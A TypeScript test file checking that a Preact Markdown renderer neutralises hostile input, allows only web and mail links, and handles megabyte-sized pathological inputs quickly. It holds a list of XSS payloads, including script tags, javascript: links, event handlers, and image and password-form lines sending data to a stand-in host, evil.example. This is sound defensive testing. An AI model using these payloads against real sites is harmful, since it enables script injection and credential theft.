import { page, settled } from './page';
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { render } from 'preact';
import { Markdown, safeLink } from '../shared/markdown';

function show(text: string): HTMLElement {
  const element = page.createElement('div');
  page.body.append(element);
  render(<Markdown text={text} />, element);
  return element;
}

const HOSTILE = [
  '<img src=x onerror="globalThis.pwned=1">',
  '<script>globalThis.pwned=1</script>',
  '<svg/onload=globalThis.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:globalThis.pwned=1">x</a>',
  '[x](javascript:globalThis.pwned=1)',
  '[x](JaVaScRiPt:globalThis.pwned=1)',
  '[x](data:text/html,<script>globalThis.pwned=1</script>)',
  '[x](vbscript:msgbox)',
  '<javascript:globalThis.pwned=1>',
  '![x](https://evil.example/?secret)',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<details open ontoggle=globalThis.pwned=1>',
  '| <img src=x onerror=alert(1)> |\n|--|\n| <b onclick=alert(1)>c</b> |',
  '# <style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '```html\n<img src=x onerror=globalThis.pwned=1>\n```',
  '[ref]: javascript:alert(1)\n[ref]'
];

for (const text of HOSTILE) {
  test(`harmless: ${text.slice(0, 60)}`, async () => {
    const element = show(text);
    await settled(5);
    assert.equal((globalThis as Record<string, unknown>)['pwned'], undefined);
    assert.equal(element.querySelector('img, script, svg, iframe, style, form, input, object, embed, link, details'), null);
    for (const node of element.querySelectorAll('*')) {
      for (const { name } of [...node.attributes])
        assert.ok(['class', 'href', 'target', 'rel', 'title', 'tabindex', 'type', 'start', 'role', 'aria-label'].includes(name), name);
    }
    for (const link of element.querySelectorAll('a')) assert.match(link.getAttribute('href') ?? '', /^(https?|mailto):/);
  });
}

test('what HTML says is shown as text', () => {
  assert.match(show('<img src=x onerror=alert(1)>').textContent ?? '', /<img src=x onerror=alert\(1\)>/);
});

test('ordinary Markdown looks like it', () => {
  const element = show(
    '# Title\n\nSome **bold**, *soft*, `code` & [link](https://example.org).\n\n- one\n- two\n\n1. a\n\n> said\n\n```py\nx = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'
  );
  for (const selector of ['h3', 'strong', 'em', 'code', 'a[rel~=noopener]', 'ul li', 'ol li', 'blockquote', 'pre code', 'table td']) {
    assert.ok(element.querySelector(selector), selector);
  }
  assert.equal(element.querySelector('pre code')?.textContent, 'x = 1');
});

test('only web and mail links are links', () => {
  assert.equal(safeLink('https://example.org/a'), 'https://example.org/a');
  for (const href of [
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    '/relative',
    ''
  ]) {
    assert.equal(safeLink(href), null, href);
  }
});

const MEGABYTES: [string, string][] = [
  ['words', 'word '.repeat(200_000)],
  ['one line', 'x'.repeat(1_000_000)],
  ['brackets', '['.repeat(1_000_000)],
  ['emphasis', '*a **b '.repeat(140_000)],
  ['quotes', '>'.repeat(1_000_000)],
  ['backticks', '`'.repeat(500_000) + 'a`'.repeat(250_000)],
  ['lists', '- '.repeat(500_000)],
  ['tables', '|a'.repeat(500_000) + '\n' + '|-'.repeat(1000)],
  ['links', '[a]('.repeat(250_000)],
  ['html', '<a '.repeat(330_000)]
];

for (const [name, text] of MEGABYTES) {
  test(`a megabyte of ${name} costs less than a second, and all of it on request`, async () => {
    const begin = process.cpuUsage(); // of this process alone, whatever else the machine does
    const element = show(text);
    const { user, system } = process.cpuUsage(begin);
    assert.ok(user + system < 1_000_000, `${(user + system) / 1000} ms`);
    assert.ok(element.querySelectorAll('*').length < 20_000);
    element.querySelector<HTMLButtonElement>('button.jp-Cambio-link')?.click();
    await settled();
    assert.ok((element.textContent ?? '').length > 900_000);
  });
}
